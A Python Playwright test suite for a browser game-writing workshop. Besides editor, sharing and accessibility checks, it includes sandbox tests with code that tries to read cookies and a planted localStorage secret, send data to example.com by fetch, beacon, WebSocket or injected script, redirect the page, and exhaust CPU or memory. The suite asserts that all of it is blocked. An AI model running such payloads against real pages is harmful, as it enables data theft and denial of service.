"""The workshop: a game is written and played beside it, checked while it is written, sent as a link, and held in."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from textwrap import indent

import pytest
from playwright.sync_api import Browser, BrowserContext, FrameLocator, Locator, expect

from serve import SiteServer
from single_file import NAME
from site_files import ROOT
from web.axe import serious
from web.conftest import new_visit
from web.in_page import tried
from web.visit import SITE, VIEWPORT, Visit, VisitMaker

TICTACTOE = (ROOT / "examples/tictactoe.py").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def bench(browser: Browser, site: SiteServer) -> Iterator[Visit]:
    """A workshop in which the tests of this module follow one another."""
    here = new_visit(browser.new_context(viewport=VIEWPORT), site.address)
    here.page.goto(here.address + "workshop.html")
    stands(here)
    yield here
    here.page.context.close()


@pytest.fixture(scope="module", params=["the site", "one file"])
def held(
    request: pytest.FixtureRequest, bench: Visit, browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Visit]:
    """The same, and a workshop that is opened from one file on a disk."""
    if request.param == "the site":
        yield bench
        return
    file = tmp_path_factory.mktemp("alone") / NAME
    shutil.copyfile(SITE / NAME, file)
    here = new_visit(browser.new_context(viewport=VIEWPORT), file.as_uri())
    here.open()
    here.page.get_by_role("link", name="Open the workshop").click()
    stands(here)
    yield here
    here.page.context.close()


def board(visit: Visit) -> FrameLocator:
    return visit.page.frame_locator("#stage iframe")


def place(visit: Visit, label: str | re.Pattern[str]) -> Locator:
    return board(visit).locator("#board .targets button").and_(board(visit).get_by_label(label))


def mark(visit: Visit) -> str:
    """Mark some empty square, and wait until it is one's turn again or the game is over; which square it is."""
    free = board(visit).locator("#board .targets button").and_(board(visit).get_by_label(re.compile(", empty"))).first
    square = (free.get_attribute("aria-label") or "").partition(",")[0]
    free.click()
    expect(place(visit, f"{square}, empty")).to_have_count(0)
    expect(board(visit).locator("#prompt")).not_to_have_text(re.compile("thinking"))
    return square


def begin(visit: Visit) -> None:
    """A new match of the example."""
    write(visit, TICTACTOE)
    visit.page.get_by_label("Open", exact=True).select_option("example:tictactoe.py")
    stands(visit)
    expect(board(visit).locator("#log li")).to_have_count(0)


def stands(visit: Visit) -> None:
    """The table plays by the file."""
    board(visit).locator("#board .targets button").first.wait_for()
    visit.page.locator("#state", has_text=re.compile("random games|Random games")).wait_for()


def write(visit: Visit, text: str) -> None:
    """Write a whole file, as somebody does who pastes it."""
    visit.page.locator("#code .cm-content").click()
    visit.page.keyboard.press("Control+A")
    visit.page.keyboard.press("Delete")
    visit.page.keyboard.insert_text(text)


def rename(visit: Visit, name: str) -> None:
    """Call the file otherwise; by keys, after which alone browsers agree that a field has changed."""
    field = visit.page.get_by_label("File name")
    field.click()
    field.press("Control+A")
    visit.page.keyboard.type(name)
    field.press("Tab")


def faults(visit: Visit) -> Locator:
    return visit.page.locator("#faults")


def test_a_changed_example_is_played_at_once(bench: Visit) -> None:
    """Four in a row on 5 x 5, from the example of three in a row."""
    begin(bench)
    expect(place(bench, "c3, empty")).to_be_visible()
    write(bench, TICTACTOE.replace("Squares(3, 3)", "Squares(5, 5)").replace("rows(3)", "rows(4)"))
    expect(place(bench, "e5, empty")).to_be_visible()
    place(bench, "c3, empty").click()
    expect(board(bench).locator("#log li")).not_to_have_count(0)
    expect(board(bench).locator("#prompt")).to_have_text(re.compile("^Your turn"))
    expect(bench.page.locator("#state")).to_have_text(re.compile("^All checks passed"))
    assert bench.trouble == []


@pytest.mark.chromium_first
def test_what_is_wrong_stands_at_its_line_and_the_board_stays(bench: Visit) -> None:
    write(bench, TICTACTOE.replace("GRID.rows(3)", "GRID.rows(3"))
    expect(faults(bench)).to_contain_text("This is not valid Python")
    expect(faults(bench).get_by_role("button", name="Line 12")).to_be_visible()
    expect(place(bench, "a1, empty")).to_be_visible()
    write(bench, TICTACTOE)
    expect(faults(bench)).to_be_empty()


@pytest.mark.chromium_first
def test_a_broken_rule_shows_the_position(bench: Visit) -> None:
    """Without an ending nobody can act on a full board."""
    write(bench, re.sub(r"    def ending.*?\n\n(?=    def impossible)", "", TICTACTOE, flags=re.DOTALL))
    expect(faults(bench)).to_contain_text("Somebody can act until the game is over")
    faults(bench).get_by_role("button", name="Show the position").click()
    expect(board(bench).locator("#board .targets button")).to_have_count(9)
    expect(place(bench, "a1, empty")).to_have_count(0)
    write(bench, TICTACTOE)
    stands(bench)


@pytest.mark.chromium_first
def test_a_position_that_the_rules_do_not_have_is_shown_all_the_same(bench: Visit) -> None:
    """What the checks have found stays; where no version has the position, it is set up."""
    begin(bench)
    without = re.sub(r"    def ending.*?\n\n(?=    def impossible)", "", TICTACTOE, flags=re.DOTALL)
    rename(bench, "never.py")
    for text in (without, without.replace("Squares(3, 3)", "Squares(2, 2)").replace("ROWS = GRID.rows(3)", "")):
        write(bench, text)
        count = 9 if text == without else 4
        bench.page.locator("#state", has_text="Something is wrong").wait_for()
        expect(faults(bench)).to_contain_text("Somebody can act until the game is over")
        faults(bench).get_by_role("button", name="Show the position").click()
        expect(board(bench).locator(":is(#board, #draft) .targets button:visible")).to_have_count(count)
        expect(
            board(bench).locator(":is(#board, #draft) .targets button[aria-label$=', empty']:visible")
        ).to_have_count(0)
        expect(faults(bench)).to_contain_text("Somebody can act until the game is over")
    expect(board(bench).locator("#verdict")).to_contain_text("has nothing to do, but the game is not over")
    expect(bench.page.locator("#state")).to_contain_text("The position is set up on the board.")
    rename(bench, "tictactoe.py")
    begin(bench)
    write(bench, TICTACTOE.replace("return drawn(", "return self.board.owned() or drawn("))
    expect(faults(bench)).to_contain_text("owned")
    faults(bench).get_by_role("button", name="Show the position").click()
    expect(place(bench, re.compile(", empty"))).to_have_count(0)
    expect(faults(bench)).to_contain_text("owned")
    write(bench, TICTACTOE)
    stands(bench)
    assert bench.trouble == []


@pytest.mark.chromium_first
def test_links_lead_on_within_the_frame(bench: Visit) -> None:
    """The rules in a dialog, and the position editor, twice; then another match, with the players of the one before."""
    begin(bench)
    rename(bench, "noughts2.py")
    stands(bench)
    new, table = bench.page.get_by_role("button", name="New match"), board(bench)
    for _ in range(2):
        new.click()
        table.get_by_role("link", name="Rules").click()
        expect(table.locator("dialog.wide[open]")).to_contain_text("Three of your own marks in a row win")
        table.locator("dialog.wide[open]").get_by_role("button", name="Close").click()
        table.get_by_role("link", name="Set up a position").click()
        expect(table.locator("#draft .targets button")).to_have_count(9)
    new.click()
    table.get_by_role("button", name="Start", exact=True).click()
    expect(table.locator("#board .targets button")).to_have_count(9)
    begin(bench)
    new.click()
    expect(table.get_by_role("heading", name="New match: Tic-tac-toe")).to_be_visible()
    expect(table.get_by_label("Who plays Orange")).not_to_have_value("0")
    table.locator("#dialog").get_by_role("button", name="Close").click()
    assert bench.trouble == []


@pytest.mark.chromium_first
def test_what_holds_and_is_hardly_meant_is_said(bench: Visit) -> None:
    write(bench, TICTACTOE.replace("        self.end_turn()\n", "").replace("    def impossible", "    def is_odd"))
    expect(faults(bench)).to_contain_text("In every random game only Player 1 acted.")
    expect(faults(bench).get_by_role("button", name="Line 20")).to_be_visible()
    write(bench, TICTACTOE.replace("return won(seat, why", "continue  # ("))
    expect(faults(bench)).to_contain_text("Every random game was drawn.")
    write(bench, TICTACTOE)
    expect(bench.page.locator("#state")).to_have_text(re.compile("^All checks passed. "))
    expect(faults(bench)).to_be_empty()


def test_somebody_who_writes_sees_what_there_is(bench: Visit) -> None:
    """Behind a dot what the thing before it has; in brackets what a call is given; in the help all words."""
    write(bench, TICTACTOE.partition("    @action")[0] + "    def ending(self):\n")
    keyboard = bench.page.keyboard
    keyboard.type("        self.board.ow")
    bench.page.locator(".cm-tooltip-autocomplete").get_by_text("row_owner").wait_for()
    assert bench.page.locator(".cm-tooltip-autocomplete li").count() == 2
    expect(bench.page.locator(".cm-completionInfo")).to_contain_text("owner(place)")
    keyboard.press("Enter")
    keyboard.type("(")
    expect(bench.page.locator(".cm-told")).to_contain_text("The seat whose piece lies on a place")
    keyboard.press("ArrowLeft")
    expect(bench.page.locator(".cm-told")).to_have_count(0)
    bench.page.get_by_role("button", name="Help").click()
    bench.page.get_by_text("What lies on a board").click()
    expect(bench.page.locator("#dialog dl:visible")).to_contain_text("row_owner(row)")
    bench.page.keyboard.press("Escape")
    write(bench, TICTACTOE)
    stands(bench)


@pytest.mark.chromium_first
def test_a_match_goes_on_while_its_rules_change(bench: Visit) -> None:
    begin(bench)
    mark(bench)
    write(bench, TICTACTOE.replace("Mark {square}", "Claim {square}").replace("Squares(3, 3)", "Squares(4, 4)"))
    expect(place(bench, "d4, empty")).to_be_visible()
    expect(board(bench).locator("#log li")).not_to_have_count(0)
    write(bench, TICTACTOE.replace("Squares(3, 3)", "Squares(1, 5)").replace("rows(3)", "rows(4)"))
    expect(bench.page.locator("#state")).to_have_text(
        re.compile("^(The match started over|Checking|All checks passed)")
    )
    expect(place(bench, "a5, empty")).to_be_visible()


def test_a_link_holds_the_game_and_asks_before_it_runs(
    bench: Visit, visit: VisitMaker, context: BrowserContext
) -> None:
    write(bench, TICTACTOE.replace("Tic-tac-toe", "Noughts"))
    stands(bench)
    bench.page.get_by_role("button", name="Share", exact=True).click()
    link = bench.page.get_by_label("Link", exact=True).input_value()
    bench.page.keyboard.press("Escape")
    assert len(link) < 2500
    other = visit(context, bench.address)
    other.page.goto(link)
    expect(other.page.locator("#stage")).to_contain_text("Someone else wrote this game.")
    assert other.page.locator("#stage iframe").count() == 0
    other.page.get_by_role("button", name="Play it").click()
    place(other, "b2, empty").click()
    expect(board(other).locator("#game-name")).to_have_text("Noughts")
    other.page.get_by_role("button", name="Look inside").click()
    expect(other.page.locator("#code .cm-content")).to_contain_text("Noughts")
    other.page.goto(link[:-40])
    other.page.reload()
    expect(other.page.locator("#dialog")).to_contain_text("This link is damaged")


def test_a_link_of_a_match_holds_both(bench: Visit, visit: VisitMaker, context: BrowserContext) -> None:
    begin(bench)
    square = mark(bench)
    board(bench).get_by_role("button", name="Share this game").click()
    link = board(bench).locator("#link").input_value()
    board(bench).locator("#dialog").get_by_role("button", name="Close").click()
    other = visit(context, bench.address)
    other.page.goto(link)
    other.page.get_by_role("button", name="Play it").click()
    expect(place(other, re.compile(f"^{square}, .*mark"))).to_be_visible()


def test_it_is_kept_with_its_match(visit: VisitMaker, context: BrowserContext, site: SiteServer) -> None:
    here = visit(context, site.address)
    here.page.goto(site.address + "workshop.html")
    stands(here)
    here.page.get_by_label("Open", exact=True).select_option("New game")
    expect(here.page.get_by_label("File name")).to_have_value("mygame.py")
    place(here, "c3, empty").click()
    expect(board(here).locator("#log li")).not_to_have_count(0)
    here.until("() => /pentapod.match/.test(localStorage.getItem('pentapod.own.mygame.py'))")
    here.page.reload()
    stands(here)
    expect(here.page.get_by_label("File name")).to_have_value("mygame.py")
    expect(here.page.locator("#code .cm-content")).to_contain_text("Place stones")


@pytest.mark.parametrize("size", [(1280, 800), (844, 390), (360, 640)])
def test_it_fits_and_can_be_read_by_all(bench: Visit, size: tuple[int, int]) -> None:
    write(bench, TICTACTOE)
    stands(bench)
    bench.page.set_viewport_size({"width": size[0], "height": size[1]})
    wide = bench.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide <= 0
    assert serious(bench) == []
    bench.page.set_viewport_size(VIEWPORT)


# -- what somebody else's code may not do

READS = {
    "the page around": "js.parent.document.title",
    "the uppermost page": "js.top.location.href",
    "what the site keeps": 'js.localStorage.getItem("pentapod.secret") or "held: not there"',
    "what another document keeps": "js.parent.localStorage.length",
    "cookies": "js.document.cookie",
    "a database": 'js.eval("indexedDB").open("x").result.name',
    "copies of files": "js.caches.keys()",
    "a worker of the site": "js.navigator.serviceWorker.controller.scriptURL",
    "the engine's own name for the page": '__import__("pyodide_js").globals.get("x").parent.document.title',
    "a window": 'js.window.open("https://example.com").closed',
    "a connection": "js.RTCPeerConnection.new()",
    "a connection of another document": '[f := js.document.createElement("iframe"), js.document.body.append(f), '
    "f.contentWindow.RTCPeerConnection.new()]",
}
"""What no game can read: each ends in an error, or in nothing."""

SENDS = {
    "fetch": 'js.fetch("https://example.com/?x")',
    "the site": 'js.fetch("./index.html")',
    "a request": '[r := js.XMLHttpRequest.new(), r.open("GET", "https://example.com/?x"), r.send()]',
    "a socket": 'js.WebSocket.new("wss://example.com/")',
    "a beacon": 'js.navigator.sendBeacon("https://example.com/", "x")',
    "a picture": 'setattr(js.Image.new(), "src", "https://example.com/x.png")',
    "a script": '[s := js.document.createElement("script"), setattr(s, "src", "https://example.com/x.js"), '
    "js.document.head.append(s)]",
    "a frame": '[s := js.document.createElement("iframe"), setattr(s, "src", "https://example.com/"), '
    "js.document.body.append(s)]",
}
LEAVES = {
    "leaving": 'setattr(js.location, "href", "https://example.com/?x")',
    "taking the page along": 'setattr(js.top.location, "href", "https://example.com/?x")',
}
"""What no game can send: no request reaches any server. After what leaves nothing else could be tried."""


def attack(bench: Visit, attempts: dict[str, str]) -> None:
    """Make attempts in the page of the table; the workshop hears what they reached."""
    write(bench, TICTACTOE)
    stands(bench)
    told = tried(attempts) + 'raise RuntimeError(f"RESULT of {len(got)}: {reached}")\n'
    write(bench, f'{TICTACTOE}\njs = __import__("js")\nif hasattr(js, "document"):\n{indent(told, "    ")}')
    expect(faults(bench)).to_contain_text(re.compile("RESULT|closed|example.com"))


def unharmed(bench: Visit) -> None:
    """The page goes on, and so does the next game."""
    assert bench.page.evaluate("localStorage.getItem('pentapod.secret')") == "s3cret"
    assert bench.page.url.startswith(bench.address)
    write(bench, TICTACTOE)
    bench.until("() => !document.querySelector('#faults').firstChild || document.querySelector('#stage button')")
    if bench.page.get_by_role("button", name="Start it again").is_visible():
        bench.page.get_by_role("button", name="Start it again").click()
    expect(faults(bench)).to_be_empty()
    expect(board(bench).locator("#board .targets button")).to_have_count(9)


def test_a_game_reads_nothing(held: Visit) -> None:
    held.page.evaluate("localStorage.setItem('pentapod.secret', 's3cret')")
    attack(held, READS)
    expect(faults(held)).to_contain_text(f"RESULT of {len(READS)}: {{}}")
    unharmed(held)


@pytest.mark.parametrize("attempts", [SENDS, *({what: LEAVES[what]} for what in LEAVES)], ids=["staying", *LEAVES])
def test_a_game_sends_nothing(held: Visit, attempts: dict[str, str]) -> None:
    held.page.evaluate("localStorage.setItem('pentapod.secret', 's3cret')")
    asked: list[str] = []
    held.page.context.on("requestfinished", lambda request: asked.append(request.url))
    attack(held, attempts)
    unharmed(held)
    assert [url for url in asked if not url.startswith(("blob:", "data:", "about:")) and "sealed.txt" not in url] == []


HOSTILE = {
    "no Python": ("this is no game", "This is not valid Python"),
    "no game": ("GAME = 3", "does not define a game"),
    "a foreign import": ("import js\n" + TICTACTOE, "A game cannot import js"),
    "a package": ("import numpy\n" + TICTACTOE, "A game cannot import numpy"),
    "an endless file": (TICTACTOE + "\nwhile True:\n    pass\n", "two seconds"),
    "an endless rule": (
        TICTACTOE.replace(
            "        for row in ROWS:", "        while True:\n            pass\n        for row in ROWS:"
        ),
        "two seconds",
    ),
    "an endless sum": (TICTACTOE + "\nimport itertools\nsum(itertools.count())\n", "four seconds"),
    "too much memory": (TICTACTOE + "\nx = [0] * 10**9\n", "memory"),
    "a huge board": (TICTACTOE.replace("Squares(3, 3)", "Squares(3000, 3000)"), ""),
    "a crash": (TICTACTOE + "\n(lambda f: f(f))(lambda f: f(f))\n", "itself"),
    "an exit": (TICTACTOE + "\nraise SystemExit\n", "ends the program"),
}
"""Files, and a part of what is said of each."""


@pytest.mark.chromium_first
@pytest.mark.parametrize("what", HOSTILE)
def test_a_bad_file_gets_a_sentence(bench: Visit, what: str) -> None:
    bench.page.evaluate("localStorage.setItem('pentapod.secret', 's3cret')")
    write(bench, TICTACTOE)
    stands(bench)
    text, said = HOSTILE[what]
    write(bench, text)
    expect(faults(bench)).not_to_be_empty()
    expect(faults(bench)).to_contain_text(said)
    unharmed(bench)


LATE = """
Object.defineProperty(Worker.prototype, "onmessage", { set(hear) {
    this.addEventListener("message", event => setTimeout(() => hear(event), 1500));
} });
"""
"""What the checks say is heard when somebody may have written on."""


@pytest.mark.one_browser
@pytest.mark.parametrize("what", ["an endless sum", "an endless file"])
def test_what_is_said_of_a_file_is_not_taken_for_the_next_one(pentapod: Visit, what: str) -> None:
    """The table plays by the one that was checked; what does not end is ended, though the one before did."""
    pentapod.page.add_init_script(LATE)
    pentapod.page.goto(pentapod.address + "workshop.html")
    stands(pentapod)
    text, said = HOSTILE[what]
    write(pentapod, TICTACTOE.replace("Squares(3, 3)", "Squares(4, 4)"))
    pentapod.page.wait_for_timeout(1000)
    write(pentapod, text)
    expect(faults(pentapod)).to_contain_text(said)
    expect(board(pentapod).locator("#board .targets button")).to_have_count(16)


@pytest.mark.chromium_first
@pytest.mark.parametrize("name", ["pods.py", "xtal.py", "a b.py", "no.txt"])
def test_a_file_cannot_be_called_like_another_game(bench: Visit, name: str) -> None:
    write(bench, TICTACTOE)
    stands(bench)
    field = bench.page.get_by_label("File name")
    before = field.input_value()
    rename(bench, name)
    assert field.evaluate("field => field.validationMessage") != ""
    expect(board(bench).locator("#board .targets button")).to_have_count(9)
    rename(bench, before)
    assert field.evaluate("field => field.validationMessage") == ""


def test_the_first_page_leads_here_with_what_it_is_given(
    visit: VisitMaker, context: BrowserContext, site: SiteServer
) -> None:
    """By its link, by a file, and by a link that is pasted there."""
    here = visit(context, site.address)
    here.open()
    here.page.get_by_role("link", name="Open the workshop").click()
    stands(here)
    here.open()
    here.page.evaluate(
        """text => {
            const data = new DataTransfer();
            data.items.add(new File([text], "noughts.py", { type: "text/x-python" }));
            document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
        }""",
        TICTACTOE,
    )
    expect(here.page.locator("#stage").get_by_role("heading", name="Tic-tac-toe")).to_be_visible()
    expect(here.page.locator("#stage")).to_contain_text("noughts.py")
    expect(here.page.locator("#stage")).to_contain_text("Three in a row on nine squares")
    link = here.page.url
    here.open()
    here.page.get_by_label("Link to a game").fill(f"Look at this: {link} !")
    here.page.get_by_role("button", name="Open", exact=True).click()
    here.page.get_by_role("button", name="Play it").click()
    board(here).locator("#board .targets button").first.wait_for()


@pytest.mark.chromium_first
def test_german(visit: VisitMaker, browser: Browser, site: SiteServer) -> None:
    here = visit(browser.new_context(viewport=VIEWPORT, locale="de-DE", service_workers="block"), site.address)
    here.page.goto(site.address + "workshop.html")
    board(here).locator("#board .targets button").first.wait_for()
    expect(here.page.locator("#state")).to_have_text(re.compile("^Alle Prüfungen bestanden"))
    expect(board(here).locator("#prompt")).to_have_text(re.compile("^Du bist am Zug"))
    here.page.context.close()


@pytest.mark.browser_context_args(service_workers="allow")
@pytest.mark.lengthy
def test_it_works_offline_after_the_first_visit(
    visit: VisitMaker, context: BrowserContext, own_site: SiteServer
) -> None:
    here = visit(context, own_site.address)
    here.open()
    here.wait_offline_ready()
    own_site.stop()
    here.page.goto(own_site.address + "workshop.html")
    stands(here)
    mark(here)
